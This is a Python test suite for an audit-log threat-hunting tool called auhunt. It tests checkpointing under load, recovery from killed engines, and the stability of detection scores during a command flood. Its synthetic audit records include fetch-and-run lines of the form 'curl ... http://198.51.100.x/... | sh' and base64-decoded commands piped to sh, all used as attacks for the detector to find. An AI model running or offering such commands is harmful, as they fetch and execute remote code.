# SPDX-License-Identifier: GPL-3.0-or-later
"""What survives: checkpoints under load, engines that die, one user's flood."""

import base64
import json
import os
import random
import signal
import subprocess
import threading
import time

from processes import LONG, check_all_came, check_gap, require
from rig import (Failure, Rig, check_laws, check_told, read_file,
                 wait_for)
from suite import AUHUNT, HUNT, ROOT, environment

START = 1700000000
EVENT = (b'type=SYSCALL msg=audit(%(t)s): arch=c000003e syscall=59 '
         b'success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=0 ppid=9 pid=10 '
         b'auid=%(auid)d uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 '
         b'fsgid=0 tty=pts0 ses=%(auid)d comm="sh" exe="/usr/bin/sh" '
         b'key="exec"\n'
         b'type=EXECVE msg=audit(%(t)s): argc=3 a0="sh" a1="-c" a2=%(hex)s\n'
         b'type=PROCTITLE msg=audit(%(t)s): proctitle="sh"\n'
         b'type=EOE msg=audit(%(t)s): \n')


def record(serial, command, auid, seconds):
    """An exec of a command in Base64, as auditd writes it."""
    blob = base64.b64encode(command)
    return EVENT % {
        b"t": b"%d.%03d:%d" % (START + int(seconds),
                               int(seconds * 1000) % 1000, serial),
        b"auid": auid,
        b"hex": (b"echo %s | base64 -d | sh" % blob).hex().upper().encode()}


def tool(rig, *options):
    """auhunt status of the rig's state file; None where there is none yet."""
    done = subprocess.run(
        [AUHUNT, "status", "--json", "--state", rig.path("lib/state.db"),
         *options], capture_output=True, cwd=ROOT, env=environment(),
        timeout=30, check=False)
    if done.returncode not in (0, 3):   # 3: it does not run
        return None
    return json.loads(done.stdout)


# ------------------------------------------------------------ checkpoints

def write_log(rig, events):
    path = rig.path("unique.log")
    with open(path, "wb") as log:
        for n in range(events):
            log.write(record(n + 1, b"id; echo %d of them" % n, 1000 + n % 7,
                             n / 5000))
    return path


def state_rig(*options):
    rig = Rig(["spool_max = 1G", *options])
    with open(rig.config, "a", encoding="utf-8") as config:
        config.write("checkpoint_s = 1\n")
    rig.configure("spool_max = 1G", "checkpoint_s = 1",
                  "state = " + rig.path("lib/state.db"), *options)
    return rig


def checkpoints():
    """A checkpoint each second of thousands of new rows holds nothing up, and
    can be read meanwhile."""
    rate, seconds = (5000, 60) if LONG else (1500, 8)
    with state_rig() as rig:
        rig.start("-f", write_log(rig, rate * seconds), "-r", str(rate),
                  "-n", str(rate * seconds), "-h", "60000")
        seen = 0
        while seen < (seconds - 2) // 2 and wait_for(10, lambda: tool(rig)):
            seen += 1
            time.sleep(1)
        wait_for(seconds * 4, lambda: len(rig.receiver.of("exec")) >=
                 rate * seconds)
        rig.drain()
        status = rig.ask()
        report = rig.finish()
        check_laws(status)
        check_all_came(rig, rate * seconds)
        require(seen, "the state could not be read")
        require(status["checkpoints"] >= seconds // 2,
                "only %d checkpoints" % status["checkpoints"])
        require(not status["checkpoint_errors"], "errors:",
                status["checkpoint_errors"])
        last = tool(rig)
        require(last["rows"]["frequency"] == min(rate * seconds, 65536),
                "%d rows" % last["rows"]["frequency"])
        print("# %d checkpoints, %d commands in them" % (
            status["checkpoints"], last["rows"]["frequency"]))
        check_gap(report)


def state_over_kills():
    """Engines die at random: the totals count every line once, and what was
    saved is never lost again."""
    kills = 200 if LONG else 15
    with state_rig() as rig:
        rig.start("-f", write_log(rig, kills * 2000), "-r", "1000",
                  "-h", "60000")
        rows = 0
        for _ in range(kills):
            time.sleep(random.uniform(0.1, 1.9))
            pid = wait_for(10, rig.engine)
            require(pid, "no engine runs")
            os.kill(pid, signal.SIGKILL)
            now = (tool(rig) or {"rows": {"frequency": 0}})["rows"]
            require(now["frequency"] >= rows, "%d rows where %d were" % (
                now["frequency"], rows))
            rows = now["frequency"]
            require(not os.path.exists(rig.path("lib/state.db.bad")),
                    "the state was set aside")
        rig.drain()
        status = rig.ask()
        report = rig.finish()
        check_laws(status)
        check_told(rig, rig.status(), "engine_crashes")
        check_all_came(rig, report["events"])
        last = tool(rig)
        lines = last["counters"]["lines"]
        require(lines["total"] == lines["run"] == status["lines"],
                "lines: %s, really %d" % (lines, status["lines"]))
        require(rows and last["rows"]["frequency"] >= rows,
                "%d rows, %d at last" % (rows, last["rows"]["frequency"]))
        print("# %d kills, %d events; %d commands were saved" % (
            kills, report["events"], last["rows"]["frequency"]))
        before = len(rig.receiver.of("exec"))
        rig.start("-r", "100", "-n", "100")
        wait_for(10, lambda: len(rig.receiver.of("exec")) >= before + 100)
        rig.finish()
        again = tool(rig)["counters"]["lines"]
        require(again["total"] == lines["total"] + again["run"],
                "lines after a restart: %s, before: %s" % (again, lines))


# ------------------------------------------------------------ the flood

VICTIM, FLOODER = 2002, 1001


def attacks(rng):
    """(seconds, command): 200 that came once, or had come before."""
    known = [b"curl -fsS http://198.51.100.%d/%d | sh" % (n % 250, n)
             for n in range(200)]
    before = [(rng.uniform(0, 1), known[n]) for n in range(200)
              for _ in range(n % 4)]
    return sorted(before), sorted(
        (rng.uniform(2, 61), command) for command in known)


def stream(n_flood, seconds):
    """The victim's events, each among its share of the flood's, and which of
    their serials are attacks. Without a flood the same ones, as they were."""
    before, seeded = attacks(random.Random(4))
    serial = 0
    for when, command in before:
        serial += 1
        yield record(serial, command, VICTIM, when), False
    for n, (when, command) in enumerate(seeded):
        for k in range(n_flood // len(seeded)):
            serial += 1
            yield record(10**6 + serial,
                         b"echo noise %d %d; id" % (n, k), FLOODER,
                         2 + n * seconds / len(seeded)), False
        yield record(10**5 + n, command, VICTIM, when), True


def peak_kib(pid):
    for line in read_file("/proc/%d/status" % pid).splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def replay(n_flood, seconds, table):
    """Scores of the attacks by id, and memory once the table was full and at
    the end, in KiB."""
    plugin = subprocess.Popen(
        [HUNT, "--stdout", "-o", "hunt_dir=/nonexistent", "-o",
         "frequency_commands=%d" % table], stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, cwd=ROOT, env=environment())
    wanted, found, peaks = set(), {}, []

    def listen():
        for line in plugin.stdout:
            if b'"auid":%d,' % VICTIM not in line:
                continue
            event = json.loads(line)
            found[event["id"]] = (event["score"], event["parts"],
                                  event["decoded"])

    listener = threading.Thread(target=listen)
    listener.start()
    n = 0
    for lines, is_attack in stream(n_flood, seconds):
        plugin.stdin.write(lines)
        n += 1
        if is_attack:
            wanted.add(lines.partition(b"audit(")[2].partition(b")")[0]
                       .decode())
        if n in (table * 2, n_flood):
            peaks.append(peak_kib(plugin.pid))
    plugin.stdin.close()
    listener.join()
    require(plugin.wait(60) == 0, "exit", plugin.returncode)
    missing = wanted - set(found)
    require(not missing, "%d attacks were not found" % len(missing))
    return {event: found[event] for event in wanted}, peaks


def flood():
    """20,000 unique commands a second for 60 s by one user: another user's
    attacks have the scores that they have without it."""
    n_flood, table = (1200000, 65536) if LONG else (24000, 4096)
    start = time.monotonic()
    quiet, _ = replay(0, 60, table)
    loud, peaks = replay(n_flood, 60, table)
    require(len(quiet) == 200 == len(loud), "%d attacks" % len(loud))
    other = [event for event in quiet if quiet[event] != loud[event]]
    require(not other, "%d of 200 have other scores: %s, without the flood "
            "%s" % (len(other), loud[other[0]] if other else "",
                    quiet[other[0]] if other else ""))
    scores = {round(parts["freq"], 3) for _, parts, _ in loud.values()}
    require(len(scores) == 4, "the attacks are as rare as one another")
    require(len(peaks) == 2, "memory was not looked at")
    print("# %d commands of a flood in %.0f s, 200 of 200 attacks as "
          "without; %.1f MiB with a full table, %.1f at the end" % (
              n_flood, time.monotonic() - start, peaks[0] / 1024,
              peaks[1] / 1024))
    require(peaks[1] - peaks[0] <= 1024, "memory grew by %d KiB" % (
        peaks[1] - peaks[0]))


CASES = (checkpoints, state_over_kills, flood)
